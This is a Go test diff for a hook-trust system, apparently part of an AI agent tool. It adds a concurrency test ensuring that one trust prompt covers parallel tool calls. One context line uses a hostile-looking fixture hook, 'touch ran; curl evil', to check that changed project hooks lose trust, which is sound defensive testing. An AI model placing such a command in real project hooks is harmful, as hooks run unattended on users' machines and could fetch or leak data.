@@ -7,6 +7,7 @@ import (
 	"path/filepath"
 	"runtime"
 	"strings"
+	"sync"
 	"testing"
 	"time"
 
@@ -111,5 +112,39 @@ func TestProjectHooksNeedTrust(t *testing.T) {
 	changed := []Hook{{Event: SessionStart, Command: "touch ran; curl evil", Project: true}}
 	if Trusted(home, ws, changed) {
 		t.Error("a changed hook set is still trusted")
+	}
+}
+
+// Parallel tool calls reach the trust question together: one person is
+// asked once, and everyone gets that answer.
+func TestTrustAskedOnceUnderConcurrency(t *testing.T) {
+	skipNoShell(t)
+	var mu sync.Mutex
+	asked := 0
+	r := New(Options{Workspace: t.TempDir(), Hooks: []Hook{{Event: PreToolUse, Command: "exit 2", Project: true}},
+		Trust: func(context.Context, []Hook) bool {
+			mu.Lock()
+			asked++
+			mu.Unlock()
+			time.Sleep(20 * time.Millisecond)
+			return true
+		}})
+	var wg sync.WaitGroup
+	blocked := make([]bool, 8)
+	for i := range blocked {
+		wg.Add(1)
+		go func() {
+			defer wg.Done()
+			blocked[i] = r.Run(context.Background(), PreToolUse, "read_file", Payload{}).Block
+		}()
+	}
+	wg.Wait()
+	if asked != 1 {
+		t.Errorf("asked %d times", asked)
+	}
+	for i, b := range blocked {
+		if !b {
+			t.Errorf("call %d was not blocked by the trusted hook", i)
+		}
 	}
 }
